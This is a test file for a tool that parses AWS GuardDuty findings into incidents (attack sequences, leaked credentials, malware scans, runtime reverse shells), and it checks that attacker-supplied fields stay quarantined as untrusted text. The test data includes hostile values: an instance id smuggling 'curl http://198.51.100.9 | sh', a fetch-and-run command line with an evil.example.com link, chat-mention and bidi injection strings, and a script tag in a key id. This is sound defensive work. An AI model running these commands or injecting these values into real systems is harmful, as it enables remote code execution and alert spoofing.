/**
 * The incident model beyond `resource`: affected resources, signals, attack sequences, malware
 * scans (EC2 findings and the S3 object scan result event), runtime details, credentials. Fixtures
 * in playbooks/events and test/fixtures/events (README.md beside each says where the shapes come from).
 */
import { describe, expect, it } from 'vitest';
import { EventParseError, parseEvent } from '../../lib/incident/parse';
import type { AffectedResource, Incident } from '../../lib/incident/model';
import { affectedResources, unverifiedResources } from '../../lib/incident/affected';
import { incidentSignals } from '../../lib/incident/signals';
import { findingTypeParts } from '../../lib/incident/finding-family';
import { identifierIssues } from '../../lib/incident/identifiers';
import { triage } from '../../lib/playbooks/triage';
import type { RoutingTable } from '../../lib/playbooks/routing';
import { findingTypesMatching } from '../../lib/playbooks/finding-types';
import { quoteUntrusted } from '../../lib/responders/untrusted-text';
import { NOT_TEXT_VALUES, fieldAt, fixtureEvent, withField } from './events';

const receivedAt = new Date('2026-04-01T12:00:00.000Z');
const parse = (event: unknown): Incident => parseEvent(event, { receivedAt });

const EC2_SEQUENCE = fixtureEvent('guardduty-attack-sequence-ec2-compromised-instance-group.json');
const S3_SEQUENCE = fixtureEvent('guardduty-attack-sequence-s3-compromised-data.json');
const EKS_SEQUENCE = fixtureEvent('guardduty-attack-sequence-eks-compromised-cluster.json');
const ECS_SEQUENCE = fixtureEvent('guardduty-attack-sequence-ecs-compromised-cluster.json');
const S3_THREATS = fixtureEvent('guardduty-malware-protection-s3-threats-found.json');
const SEQUENCE_RESOURCES = ['detail', 'service', 'detection', 'sequence', 'resources'] as const;

function ofKind<K extends AffectedResource['kind']>(incident: Incident, kind: K): Extract<AffectedResource, { kind: K }>[] {
  return affectedResources(incident).filter((resource): resource is Extract<AffectedResource, { kind: K }> => resource.kind === kind);
}

/** The EventParseError parsing `event` throws (the test fails if it parses or throws anything else). */
function refusalOf(event: unknown): EventParseError {
  try {
    parse(event);
  } catch (error) {
    if (error instanceof EventParseError) return error;
    throw error;
  }
  throw new Error('parsed, expected a refusal');
}

const instanceIds = (incident: Incident): string[] => ofKind(incident, 'ec2-instance').map((resource) => resource.instanceId);

describe('attack sequences', () => {
  it('lists every instance an EC2 instance-group sequence names, once each, including one named only inside its Auto Scaling group', () => {
    const incident = parse(EC2_SEQUENCE);
    expect(incident.findingType).toBe('AttackSequence:EC2/CompromisedInstanceGroup');
    expect(incident.severity.label).toBe('Critical');
    // `resource` keeps its meaning: the finding's own instance, for the responders that read it.
    expect(incident.resource.kind === 'ec2-instance' && incident.resource.instanceId).toBe('i-0a1b2c3d4e5f60718');
    expect(instanceIds(incident)).toEqual(['i-0a1b2c3d4e5f60718', 'i-0b7c6d5e4f3a21908', 'i-0c1d2e3f4a5b60719', 'i-0d4e5f6a7b8c90123']);
    const first = ofKind(incident, 'ec2-instance')[0]!;
    expect(first).toMatchObject({ from: 'resource.instanceDetails.instanceId', uid: 'i-0a1b2c3d4e5f60718', account: '111122223333', region: 'eu-west-1' });
    expect(ofKind(incident, 'ec2-instance')[3]!.from).toBe('service.detection.sequence.resources[3].data.autoscalingAutoScalingGroup.ec2InstanceUids[2]');
    expect(unverifiedResources(incident)).toEqual([]);
    expect(identifierIssues(incident)).toEqual([]);
  });

  it('names the leaked instance credentials: a temporary key and the role session (the session name is the instance)', () => {
    const incident = parse(EC2_SEQUENCE);
    expect(ofKind(incident, 'access-key')).toEqual([
      expect.objectContaining({ accessKeyId: 'ASIAQ3EGRW6JXEXAMPLE', temporary: true, userName: 'web-instance-role', userType: 'AssumedRole' }),
    ]);
    expect(ofKind(incident, 'role-session')).toEqual([
      expect.objectContaining({ roleName: 'web-instance-role', sessionName: 'i-0b7c6d5e4f3a21908', principalId: 'AROAQ3EGRW6JQEXAMPLE', accessKeyId: 'ASIAQ3EGRW6JXEXAMPLE' }),
    ]);
    expect(ofKind(incident, 'other').map((resource) => resource.resourceType)).toEqual(['AUTOSCALING_AUTO_SCALING_GROUP', 'IAM_INSTANCE_PROFILE', 'EC2_NETWORK_INTERFACE']);
  });

  it('orders the signals by when they were first seen, whatever order GuardDuty listed them in', () => {
    const incident = parse(EC2_SEQUENCE);
    const signals = incidentSignals(incident);
    expect(signals.map((signal) => signal.uid)).toEqual(['s1', 's2', 's3', 's4']);
    expect(signals.map((signal) => signal.firstSeen)).toEqual([...signals.map((signal) => signal.firstSeen)].sort());
    expect(signals[0]).toMatchObject({
      type: 'FINDING',
      name: { untrusted: 'Backdoor:EC2/C&CActivity.B' },
      severity: { score: 8, label: 'High' },
      count: 41,
      resourceUids: ['i-0a1b2c3d4e5f60718', 'i-0c1d2e3f4a5b60719'],
      actorIds: ['a2'],
      endpointIds: ['e1'],
    });
    expect(signals[2]).toMatchObject({ type: 'CLOUD_TRAIL', name: { untrusted: 'GetCallerIdentity' } });
    expect(signals[2]!.severity).toBeUndefined();
  });

  it("tells the sequence's story: actors, endpoints, indicators, with the attacker's words wrapped as untrusted", () => {
    const sequence = parse(EC2_SEQUENCE).sequence!;
    expect(sequence.uid).toBe('b7e1c3d5f7a9b1c3d5e7f9a1b3c5d7e9');
    expect(sequence.actors[0]).toMatchObject({
      id: 'a1',
      user: { name: { untrusted: 'web-instance-role' }, type: 'AssumedRole', credentialUid: 'ASIAQ3EGRW6JXEXAMPLE', account: '111122223333' },
      session: { mfaStatus: 'DISABLED', created: '2025-01-09T09:58:12.000Z', issuer: 'arn:aws:iam::111122223333:role/web-instance-role' },
    });
    expect(sequence.actors[1]!.process).toEqual({
      name: { untrusted: 'kworker/u8:2' },
      path: { untrusted: '/tmp/.cache/kworker' },
      sha256: '5f2b7c1d9e8a4b3c6d0e1f2a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e',
    });
    expect(sequence.endpoints[0]).toEqual({
      id: 'e1',
      ip: '198.51.100.23',
      domain: { untrusted: 'c2.example.net' },
      port: 443,
      country: 'Germany',
      city: 'Frankfurt am Main',
      autonomousSystem: { name: 'Example Transit GmbH', number: 64512 },
    });
    expect(sequence.indicators.map((indicator) => indicator.key)).toEqual(['ATTACK_TACTIC', 'MALICIOUS_IP', 'MALICIOUS_PROCESS', 'HIGH_RISK_API']);
    expect(sequence.additionalSequenceTypes).toEqual(['AttackSequence:IAM/CompromisedCredentials']);
    expect(sequence.omitted).toEqual({ resources: 0, signals: 0, actors: 0, endpoints: 0, indicators: 0 });
  });

  it('keeps an id that does not look like an instance id as unverified text, never as an instance', () => {
    const hostile = 'i-0abc; curl http://198.51.100.9 | sh';
    const incident = parse(withField(EC2_SEQUENCE, [...SEQUENCE_RESOURCES, 1, 'uid'], hostile));
    expect(instanceIds(incident)).not.toContain(hostile);
    expect(instanceIds(incident)).toEqual(['i-0a1b2c3d4e5f60718', 'i-0c1d2e3f4a5b60719', 'i-0b7c6d5e4f3a21908', 'i-0d4e5f6a7b8c90123']);
    expect(unverifiedResources(incident)).toEqual([
      {
        kind: 'unverified',
        from: 'service.detection.sequence.resources[1]',
        account: '111122223333',
        region: 'eu-west-1',
        claimedKind: 'ec2-instance',
        value: { untrusted: hostile },
        expected: 'an EC2 instance id (i- and 8 or 17 lowercase hex digits)',
      },
    ]);
  });

  it('refuses placeholder instance ids unless the finding is a sample, and a resource in a malformed account', () => {
    const placeholder = withField(EC2_SEQUENCE, [...SEQUENCE_RESOURCES, 2, 'uid'], 'i-99999999');
    expect(unverifiedResources(parse(placeholder)).map((resource) => resource.value.untrusted)).toEqual(['i-99999999']);
    const sample = withField(placeholder, ['detail', 'service', 'additionalInfo'], { sample: true });
    expect(instanceIds(parse(sample))).toContain('i-99999999');

    const elsewhere = withField(EC2_SEQUENCE, [...SEQUENCE_RESOURCES, 2, 'accountId'], '1111-2222-3333');
    const incident = parse(elsewhere);
    expect(instanceIds(incident)).not.toContain('i-0c1d2e3f4a5b60719');
    expect(unverifiedResources(incident)).toEqual([expect.objectContaining({ expected: 'an AWS account id (12 digits) for the resource', value: { untrusted: '1111-2222-3333' } })]);
  });

  it('describes an account that is not text by its kind, so a GetFindings copy (keys re-cased) reads the same', () => {
    // Found by the PascalCase property test: the JSON of an object echoed its keys, which the
    // GetFindings conversion re-cases, so the two copies of one finding disagreed.
    const objectAccount = withField(EC2_SEQUENCE, [...SEQUENCE_RESOURCES, 0, 'accountId'], { aA: 0 });
    expect(unverifiedResources(parse(objectAccount))).toEqual([expect.objectContaining({ expected: 'an AWS account id (12 digits) for the resource', value: { untrusted: 'an object' } })]);
  });

  it('parses a sequence whose resource is an Instance without instance details (the sequence names the instances)', () => {
    const bare = withField(EC2_SEQUENCE, ['detail', 'resource'], { resourceType: 'Instance' });
    const incident = parse(bare);
    expect(incident.resource).toEqual({ kind: 'other', type: 'Instance' });
    expect(instanceIds(incident)).toEqual(['i-0a1b2c3d4e5f60718', 'i-0b7c6d5e4f3a21908', 'i-0c1d2e3f4a5b60719', 'i-0d4e5f6a7b8c90123']);
    // Without a sequence the same resource is still refused: nothing would name the instance.
    const noSequence = withField(bare, ['detail', 'service', 'detection'], undefined);
    expect(() => parse(noSequence)).toThrow(EventParseError);
  });

  it('reads an S3 data sequence: the bucket, the object (key as untrusted text, with its version) and the IAM user key', () => {
    const incident = parse(S3_SEQUENCE);
    expect(ofKind(incident, 's3-bucket')).toEqual([
      expect.objectContaining({ bucketName: 'acme-payroll-exports', arn: 'arn:aws:s3:::acme-payroll-exports', from: 'resource' }),
    ]);
    expect(ofKind(incident, 's3-object')).toEqual([
      expect.objectContaining({
        bucketName: 'acme-payroll-exports',
        key: { untrusted: '2026/03/payroll-march.csv' },
        versionId: '3HL4kqtJlcpXroDTDmJ+rmSpXd3dIbrHY',
        eTag: '9b2cf535f27731c974343645a3985328',
      }),
    ]);
    expect(ofKind(incident, 'access-key')).toEqual([expect.objectContaining({ accessKeyId: 'AKIAQ3EGRW6JCEXAMPLE', temporary: false })]);
    expect(ofKind(incident, 'iam-user')).toEqual([expect.objectContaining({ userName: 'ci-deployer', principalId: 'AIDAQ3EGRW6JDEPLOYER' })]);
    expect(incidentSignals(incident).map((signal) => signal.name.untrusted)).toEqual(['PutBucketVersioning', 'GetObject', 'Exfiltration:S3/AnomalousBehavior', 'DeleteObject']);
  });

  it('reads EKS and ECS cluster sequences as clusters, without taking EKS worker nodes for compromised instances', () => {
    const eks = parse(EKS_SEQUENCE);
    expect(ofKind(eks, 'eks-cluster')).toEqual([
      expect.objectContaining({ clusterName: 'payments', arn: 'arn:aws:eks:eu-west-1:111122223333:cluster/payments' }),
    ]);
    expect(instanceIds(eks)).toEqual([]);
    expect(ofKind(eks, 'other').map((resource) => resource.resourceType)).toEqual(['KUBERNETES_WORKLOAD', 'CONTAINER']);

    const ecs = parse(ECS_SEQUENCE);
    expect(ofKind(ecs, 'ecs-cluster')).toEqual([expect.objectContaining({ clusterName: 'orders', arn: 'arn:aws:ecs:eu-west-1:111122223333:cluster/orders' })]);
    expect(ofKind(ecs, 'other').map((resource) => resource.resourceType)).toEqual(['ECS_TASK']);
  });

  it('keeps the IAM credentials sequence without resources[] working: the key from the finding, the signals in order', () => {
    const incident = parse(fixtureEvent('guardduty-attack-sequence-iam-compromised-credentials-critical.json'));
    expect(incident.affected).toBeUndefined();
    expect(affectedResources(incident)).toEqual([
      expect.objectContaining({ kind: 'access-key', accessKeyId: 'AKIAQ3EGRW6JCIEXAMPLE', temporary: false }),
      expect.objectContaining({ kind: 'iam-user', userName: 'ci-deployer' }),
    ]);
    expect(incidentSignals(incident).map((signal) => signal.name.untrusted)).toEqual(['Discovery:IAMUser/AnomalousBehavior', 'StopLogging']);
  });
});

describe('credential findings', () => {
  it('an IAM user key called from Tor: the key and the user, derived from resource (nothing more is stored)', () => {
    const incident = parse(fixtureEvent('guardduty-iam-user-tor-ipcaller.json'));
    expect(incident.affected).toBeUndefined();
    expect(affectedResources(incident)).toEqual([
      { kind: 'access-key', from: 'resource.accessKeyDetails', accessKeyId: 'AKIAQ3EGRW6JCEXAMPLE', temporary: false, userName: 'ci-deployer', userType: 'IAMUser' },
      { kind: 'iam-user', from: 'resource.accessKeyDetails', userName: 'ci-deployer', principalId: 'AIDAQ3EGRW6JDEPLOYER' },
    ]);
  });

  it('a role session calling from a malicious IP: the temporary key and the session of the role', () => {
    const incident = parse(fixtureEvent('guardduty-iam-role-session-maliciousipcaller.json'));
    expect(affectedResources(incident)).toEqual([
      expect.objectContaining({ kind: 'access-key', accessKeyId: 'ASIAQ3EGRW6JZEXAMPLE', temporary: true }),
      expect.objectContaining({ kind: 'role-session', roleName: 'ci-deploy-role', sessionName: 'deploy-bot', principalId: 'AROAQ3EGRW6JRDEPLOYR' }),
    ]);
  });

  it('instance credentials used outside AWS: the instance stays the resource, and the leaked key and role session are affected too', () => {
    const incident = parse(fixtureEvent('guardduty-iam-instance-credential-exfiltration-outside-aws.json'));
    expect(incident.resource.kind).toBe('ec2-instance');
    expect(affectedResources(incident).map((resource) => resource.kind)).toEqual(['ec2-instance', 'access-key', 'role-session']);
    expect(ofKind(incident, 'role-session')[0]).toMatchObject({ roleName: 'app-server-role', sessionName: 'i-0b7c6d5e4f3a21908' });
  });

  it('keeps a malformed key id or user name as unverified text', () => {
    const event = fixtureEvent('guardduty-iam-user-tor-ipcaller.json');
    const incident = parse(withField(withField(event, ['detail', 'resource', 'accessKeyDetails', 'accessKeyId'], 'AKIA<script>'), ['detail', 'resource', 'accessKeyDetails', 'userName'], 'ci deployer; drop'));
    expect(affectedResources(incident).map((resource) => resource.kind)).toEqual(['unverified', 'unverified']);
    expect(unverifiedResources(incident).map((resource) => [resource.claimedKind, resource.value.untrusted])).toEqual([
      ['access-key', 'AKIA<script>'],
      ['iam-user', 'ci deployer; drop'],
    ]);
  });
});

describe('Malware Protection for EC2', () => {
  it('reads the EBS volume scan: scan id, the triggering finding, threats with their files (paths as untrusted text)', () => {
    const incident = parse(fixtureEvent('guardduty-ec2-malware-ebs-scan-malicious-file.json'));
    expect(incident.affected).toBeUndefined();
    expect(instanceIds(incident)).toEqual(['i-0b7c6d5e4f3a21908']);
    expect(incident.malwareScan).toEqual({
      kind: 'ebs-volumes',
      scanId: '8c7f4a2e91b3d5f7a9c1e3b5d7f9a1c3',
      triggerFindingId: 'c9e1a3c5e7a9c1e3a5c7e9a1c3e5a7c9',
      scanType: 'GUARDDUTY_INITIATED',
      startedAt: '2025-01-09T10:20:04.000Z',
      completedAt: '2025-01-09T10:27:51.000Z',
      sources: ['Bitdefender', 'Amazon'],
      scannedFiles: 81234,
      infectedFiles: 2,
      threats: [
        {
          name: { untrusted: 'Linux.Trojan.Kworker-Miner' },
          severity: 'HIGH',
          itemCount: 1,
          files: [
            {
              path: { untrusted: '/tmp/.cache/kworker' },
              fileName: { untrusted: 'kworker' },
              hash: '5f2b7c1d9e8a4b3c6d0e1f2a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e',
              volumeArn: 'arn:aws:ec2:eu-west-1:111122223333:volume/vol-0a1b2c3d4e5f60789',
            },
          ],
        },
        expect.objectContaining({ name: { untrusted: 'EICAR-Test-File (not a virus)' }, severity: 'LOW' }),
      ],
      shortened: false,
    });
  });

  it('says when GuardDuty shortened the list of infected files', () => {
    const event = withField(fixtureEvent('guardduty-ec2-malware-ebs-scan-malicious-file.json'), ['detail', 'service', 'ebsVolumeScanDetails', 'scanDetections', 'threatDetectedByName', 'shortened'], true);
    expect(parse(event).malwareScan).toMatchObject({ kind: 'ebs-volumes', shortened: true });
  });
});

describe('Malware Protection for S3 (the object scan result event)', () => {
  it('reads THREATS_FOUND as a High incident on the object, its key exact but untrusted', () => {
    const incident = parse(S3_THREATS);
    expect(incident).toMatchObject({
      source: 'guardduty',
      findingType: 'MalwareScan:S3/ThreatsFound',
      severity: { score: 8, label: 'High' },
      account: '111122223333',
      region: 'eu-west-1',
      resource: { kind: 'other', type: 'S3Bucket', id: 'arn:aws:s3:::acme-customer-uploads' },
      sample: false,
      gameDay: false,
      times: { created: '2025-01-13T09:14:27.000Z', updated: '2025-01-13T09:14:27.000Z' },
    });
    expect(incident.key).toMatch(/^s3scan-[0-9a-f]{32}$/);
    expect(incident.revision).toBe('2025-01-13T09:14:27.000Z#COMPLETED#THREATS_FOUND');
    expect(incident.affected).toEqual([
      {
        kind: 's3-object',
        from: 'detail.s3ObjectDetails',
        account: '111122223333',
        region: 'eu-west-1',
        bucketName: 'acme-customer-uploads',
        key: { untrusted: 'incoming/2026/03/invoice-4471.pdf' },
        versionId: 'Rb4kBsH0hZ6bB.7Yx_3yEXAMPLE',
        eTag: '44d88612fea8a8f36de82e1278abb02f',
      },
    ]);
    expect(incident.malwareScan).toEqual({
      kind: 's3-object',
      scanStatus: 'COMPLETED',
      resultStatus: 'THREATS_FOUND',
      threats: [{ name: { untrusted: 'EICAR-Test-File (not a virus)' }, files: [] }],
      statusReasons: [],
      s3Throttled: false,
      planArn: 'arn:aws:guardduty:eu-west-1:111122223333:malware-protection-plan/b4c7f464ab3a4EXAMPLE',
    });
  });

  it('scores each result: no threats Informational (nothing to do), unsupported Low, access denied Medium', () => {
    const clean = parse(fixtureEvent('guardduty-malware-protection-s3-no-threats-found.json'));
    expect([clean.findingType, clean.severity]).toEqual(['MalwareScan:S3/NoThreatsFound', { score: 0, label: 'Informational' }]);
    const denied = parse(fixtureEvent('guardduty-malware-protection-s3-access-denied.json'));
    expect([denied.findingType, denied.severity.label]).toEqual(['MalwareScan:S3/AccessDenied', 'Medium']);
    expect(denied.malwareScan).toMatchObject({ scanStatus: 'SKIPPED', statusReasons: ['UNAUTHORIZED_TO_GET_OBJECT'] });
    const unsupported = parse(withField(S3_THREATS, ['detail', 'scanResultDetails', 'scanResultStatus'], 'UNSUPPORTED'));
    expect(unsupported.severity.label).toBe('Low');
  });

  it('reads a result status GuardDuty adds later as MalwareScan:S3/<Status>, Medium, matched by MalwareScan:S3/*', () => {
    const incident = parse(withField(S3_THREATS, ['detail', 'scanResultDetails', 'scanResultStatus'], 'QUARANTINE_PENDING'));
    expect(incident.findingType).toBe('MalwareScan:S3/QuarantinePending');
    expect(incident.severity).toEqual({ score: 4, label: 'Medium' });
    expect(findingTypesMatching('MalwareScan:S3/*')).toEqual([
      'MalwareScan:S3/ThreatsFound',
      'MalwareScan:S3/NoThreatsFound',
      'MalwareScan:S3/Unsupported',
      'MalwareScan:S3/AccessDenied',
      'MalwareScan:S3/Failed',
    ]);
  });

  it('gives a duplicate delivery the same key and revision, a rescan a new revision, another version another key', () => {
    const first = parse(S3_THREATS);
    expect(parse(structuredClone(S3_THREATS))).toEqual(first);
    const rescan = parse(withField(S3_THREATS, ['time'], '2026-03-25T11:00:00Z'));
    expect([rescan.key, rescan.revision === first.revision]).toEqual([first.key, false]);
    expect(parse(withField(S3_THREATS, ['detail', 's3ObjectDetails', 'versionId'], 'other-version')).key).not.toBe(first.key);
    expect(parse(withField(S3_THREATS, ['detail', 's3ObjectDetails', 'objectKey'], 'incoming/other.pdf')).key).not.toBe(first.key);
  });

  it('marks a game-day injection, whose key can never take the real event’s', () => {
    const incident = parse(withField(S3_THREATS, ['source'], 'firebreak.gameday'));
    expect(incident.gameDay).toBe(true);
    expect(incident.key).toBe(`gameday-${parse(S3_THREATS).key}`);
  });

  it('refuses a result without its object, with a lower-case status, or without the owner account, naming the field', () => {
    const refusal = (event: unknown) => {
      try {
        parse(event);
      } catch (error) {
        if (error instanceof EventParseError) return error.issues.map((issue) => issue.path);
        throw error;
      }
      throw new Error('parsed');
    };
    expect(refusal(withField(S3_THREATS, ['detail', 's3ObjectDetails', 'objectKey'], undefined))).toEqual(['detail.s3ObjectDetails.objectKey']);
    expect(refusal(withField(S3_THREATS, ['detail', 'scanResultDetails', 'scanResultStatus'], 'threats found'))).toEqual(['detail.scanResultDetails.scanResultStatus']);
    expect(refusal(withField(S3_THREATS, ['account'], undefined))).toEqual(['account']);
  });

  // Regression: `time: {toString: null}` once reached `String(time)` in the revision and threw a
  // TypeError (found by finding-details-properties). A value that is not a primitive must be
  // refused by name, or left out where the parser reads leniently, and never be turned into text.

  it.each(NOT_TEXT_VALUES.map((value) => [JSON.stringify(value), value] as const))('refuses a scan result whose time is %s, naming the time, with no TypeError behind it', (_, value) => {
    const error = refusalOf(withField(S3_THREATS, ['time'], value));
    expect(error.issues).toEqual([{ path: 'time', expected: 'a time (ISO 8601, or epoch milliseconds)', received: Array.isArray(value) ? 'an array of 1' : 'an object' }]);
    expect(error.cause).toBeUndefined();
  });

  it.each(NOT_TEXT_VALUES.map((value) => [JSON.stringify(value), value] as const))('refuses the same time (%s) in a GuardDuty finding event, and reads a GetFindings copy that has no envelope', (_, value) => {
    const finding = fixtureEvent('guardduty-ec2-malware-ebs-scan-malicious-file.json');
    expect(refusalOf(withField(finding, ['time'], value)).issues.map((issue) => issue.path)).toEqual(['time']);
    expect(parse(fieldAt(finding, ['detail'])).key).toBe(parse(finding).key);
  });

  it('refuses every required scan field that is an object in place of text, by its name, with no TypeError behind it', () => {
    const required: readonly (readonly (string | number)[])[] = [
      ['detail', 'scanStatus'],
      ['detail', 'scanResultDetails', 'scanResultStatus'],
      ['detail', 's3ObjectDetails', 'bucketName'],
      ['detail', 's3ObjectDetails', 'objectKey'],
      ['detail', 's3ObjectDetails', 'versionId'],
      ['detail', 's3ObjectDetails', 'eTag'],
      ['account'],
      ['region'],
    ];
    for (const path of required) {
      for (const value of NOT_TEXT_VALUES) {
        const error = refusalOf(withField(S3_THREATS, path, value));
        expect(error.issues.map((issue) => issue.path), path.join('.')).toEqual([path.join('.')]);
        expect(error.cause).toBeUndefined();
      }
    }
  });

  it('leaves out a threat name, a status reason or the plan ARN that is an object in place of text, and keeps the rest', () => {
    let event = withField(S3_THREATS, ['detail', 'scanResultDetails', 'threats'], [{ name: { toString: null } }, { name: 'EICAR-Test-File' }]);
    event = withField(event, ['detail', 'scanResultDetails', 'statusReasons'], [{ toString: null }]);
    event = withField(event, ['resources'], [{ toString: null }]);
    const incident = parse(event);
    expect(incident.malwareScan).toMatchObject({ threats: [{ name: { untrusted: 'EICAR-Test-File' } }], statusReasons: [] });
    expect(incident.malwareScan).not.toHaveProperty('planArn');
  });

  it('keeps a hostile object key and threat name as they are, for S3 calls, and only ever as untrusted text', () => {
    const incident = parse(fixtureEvent('guardduty-malware-protection-s3-hostile-key.json'));
    const key = fieldAt(fixtureEvent('guardduty-malware-protection-s3-hostile-key.json'), ['detail', 's3ObjectDetails', 'objectKey']) as string;
    const object = ofKind(incident, 's3-object')[0]!;
    expect(object.key).toEqual({ untrusted: key });
    // What the alert will do with it (lib/responders/untrusted-text.ts): no link, no mention, no bidi override.
    const shown = quoteUntrusted(object.key.untrusted, 200);
    expect(shown).not.toMatch(/https?:\/\/|<@|@here|\u202e/);
    expect(quoteUntrusted(incident.malwareScan!.threats[0]!.name.untrusted, 200)).not.toMatch(/https?:\/\/|<!channel>/);
  });
});

describe('Runtime Monitoring', () => {
  it('reads the reverse shell process, its lineage and user, every name and path as untrusted text', () => {
    const incident = parse(fixtureEvent('guardduty-runtime-ec2-reverse-shell.json'));
    expect(instanceIds(incident)).toEqual(['i-0b7c6d5e4f3a21908']);
    expect(incident.guardDuty?.remoteIndicators).toEqual(['198.51.100.23']);
    expect(incident.runtime?.process).toMatchObject({
      name: { untrusted: 'bash' },
      executablePath: { untrusted: '/usr/bin/bash' },
      pwd: { untrusted: '/var/www/html/uploads' },
      user: { untrusted: 'www-data' },
      pid: 28113,
      userId: 33,
      euid: 33,
      startTime: '2025-01-09T10:14:02.000Z',
    });
    expect(incident.runtime?.process?.lineage.map((ancestor) => ancestor.name?.untrusted)).toEqual(['php-fpm', 'systemd']);
    expect(incident.runtime?.context).toEqual({});
  });

  it('wraps an attacker-chosen process name, path and command line whatever they contain', () => {
    const incident = parse(fixtureEvent('guardduty-runtime-ec2-privilege-escalation-hostile-process.json'));
    const runtime = incident.runtime!;
    expect(runtime.process?.name).toEqual({ untrusted: 'kworker\u202e<!channel>' });
    expect(runtime.process?.executablePath).toEqual({ untrusted: '/tmp/.x/@here http://evil.example.com/x' });
    expect(runtime.context.commandLineExample).toEqual({ untrusted: 'curl -s http://198.51.100.9/x.sh | sh # <@U024BE7LH> [docs](https://evil.example.com)' });
    expect(runtime.context.relatedFilePaths).toEqual([{ untrusted: '/etc/sudoers' }, { untrusted: '/etc/shadow' }]);
    expect(runtime.modifyingProcess).toMatchObject({ name: { untrusted: 'sh' }, pid: 31336, lineage: [] });
    // Nothing the attacker wrote is a plain string anywhere in the runtime section.
    const plainStrings = JSON.stringify(runtime, (key, value: unknown) => (key === 'untrusted' ? '' : value));
    expect(plainStrings).not.toMatch(/kworker|evil|curl|sudoers/);
  });
});

describe('future finding types', () => {
  const routing: RoutingTable = {
    playbooks: [
      {
        name: 'attack-sequence',
        priority: 10,
        mode: 'enforce',
        match: { sources: ['guardduty'], findingTypes: ['AttackSequence:*'] },
        steps: ['publish-alert'],
        index: 0,
      },
      {
        name: 'runtime',
        priority: 5,
        mode: 'enforce',
        match: { sources: ['guardduty'], findingTypes: ['Execution:Runtime/*'] },
        steps: ['publish-alert'],
        index: 1,
      },
    ],
    settings: { forceDryRun: false },
  };

  it('parses a type GuardDuty has not published yet and routes it by its family prefix', () => {
    const future = parse(withField(EC2_SEQUENCE, ['detail', 'type'], 'AttackSequence:Lambda/CompromisedFunction'));
    expect(findingTypeParts(future.findingType)).toEqual({ threatPurpose: 'AttackSequence', resourceTypeAffected: 'Lambda', threatFamilyName: 'CompromisedFunction' });
    expect(triage(future, routing).playbook).toBe('attack-sequence');
    const runtime = parse(withField(fixtureEvent('guardduty-runtime-ec2-reverse-shell.json'), ['detail', 'type'], 'Execution:Runtime/SuspiciousMemfd'));
    expect(triage(runtime, routing).playbook).toBe('runtime');
    const unknownFamily = parse(withField(fixtureEvent('guardduty-runtime-ec2-reverse-shell.json'), ['detail', 'type'], 'Impact:Bedrock/ModelTheft'));
    expect(triage(unknownFamily, routing)).toMatchObject({ outcome: 'alert-only', playbook: null });
  });

  it('reads the parts of known types, and none for a name outside the format', () => {
    expect(findingTypeParts('Backdoor:EC2/C&CActivity.B!DNS')).toEqual({
      threatPurpose: 'Backdoor',
      resourceTypeAffected: 'EC2',
      threatFamilyName: 'C&CActivity',
      detectionMechanism: 'B',
      artifact: 'DNS',
    });
    expect(findingTypeParts('UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.OutsideAWS')).toMatchObject({ detectionMechanism: 'OutsideAWS' });
    expect(findingTypeParts('not a finding type')).toBeUndefined();
  });
});

describe('affectedResources and incidentSignals on incidents that store neither', () => {
  it('derive the alarm instance, and nothing for an alarm without one', () => {
    const alarm = parse(fixtureEvent('cloudwatch-alarm-ec2-status-check-alarm-to-ok.json'));
    expect(affectedResources(alarm)).toEqual([{ kind: 'ec2-instance', from: 'alarm dimension InstanceId', instanceId: 'i-0a1b2c3d4e5f60718' }]);
    expect(incidentSignals(alarm)).toEqual([expect.objectContaining({ type: 'CLOUDWATCH_ALARM' })]);
    expect(affectedResources(parse(fixtureEvent('cloudwatch-alarm-no-dimensions.json')))).toEqual([]);
  });

  it('derive one FINDING signal from a plain finding, and type an S3 bucket finding', () => {
    const incident = parse(fixtureEvent('guardduty-s3-exfiltration-anomalous-behavior.json'));
    expect(incidentSignals(incident)).toEqual([
      expect.objectContaining({ type: 'FINDING', name: { untrusted: 'Exfiltration:S3/AnomalousBehavior' }, firstSeen: incident.times.created, severity: incident.severity }),
    ]);
    expect(affectedResources(incident)).toEqual([
      expect.objectContaining({ kind: 's3-bucket', bucketName: 'acme-payroll-exports', arn: 'arn:aws:s3:::acme-payroll-exports' }),
    ]);
  });

  it('work on an incident written before the fields existed (no affected, no signals)', () => {
    const { affected: _affected, signals: _signals, sequence: _sequence, ...older } = parse(EC2_SEQUENCE);
    expect(affectedResources(older)).toEqual([expect.objectContaining({ kind: 'ec2-instance', instanceId: 'i-0a1b2c3d4e5f60718' })]);
    expect(incidentSignals(older)).toHaveLength(1);
  });
});

describe("the parser's own limits against an attacker's padding (review-8j)", () => {
  it('tried (review-8j): an instance-credential finding grown by its bucket details keeps its instance and its key, which are read first', () => {
    const event = structuredClone(fixtureEvent('guardduty-iam-instance-credential-exfiltration-outside-aws.json')) as { detail: { resource: Record<string, unknown> } };
    const key = (bucket: number, object: number) => `${bucket}-${object}${'\u{1D538}'.repeat(254)}`;
    event.detail.resource.s3BucketDetails = Array.from({ length: 20 }, (_, bucket) => ({ name: `drop-${bucket}`, s3ObjectDetails: Array.from({ length: 20 }, (__, object) => ({ key: key(bucket, object) })) }));
    const incident = parse(event);
    const kinds = affectedResources(incident).map((resource) => resource.kind);
    expect(kinds.slice(0, 3)).toEqual(['ec2-instance', 'access-key', 'role-session']);
  });

  it("names by id an IAM sequence's credential listed beyond the resources the parser reads (row 8k)", () => {
    const event = structuredClone(fixtureEvent('guardduty-attack-sequence-iam-compromised-credentials.json')) as { detail: unknown };
    const resources = fieldAt(event, ['detail', ...SEQUENCE_RESOURCES.slice(1)]) as Record<string, unknown>[];
    const last = resources.pop()!;
    const padding = Array.from({ length: 260 }, (_, index) => ({ uid: `arn:aws:s3:::exfil-drop/loot/${index}`, resourceType: 'S3_OBJECT', accountId: '111122223333', region: 'us-east-1' }));
    resources.push(...padding, last);
    const incident = parse(event);
    expect(affectedResources(incident).some((resource) => resource.kind === 'access-key' && resource.accessKeyId === last.uid)).toBe(false);
    expect(incident.sequence?.leftOut).toContainEqual(expect.objectContaining({ kind: 'access-key', id: last.uid }));
    expect(incident.sequence?.omitted.resources).toBeGreaterThan(0);
  });

  const ec2Sequence = () => {
    const event = structuredClone(fixtureEvent('guardduty-attack-sequence-ec2-compromised-instance-group.json')) as { detail: unknown };
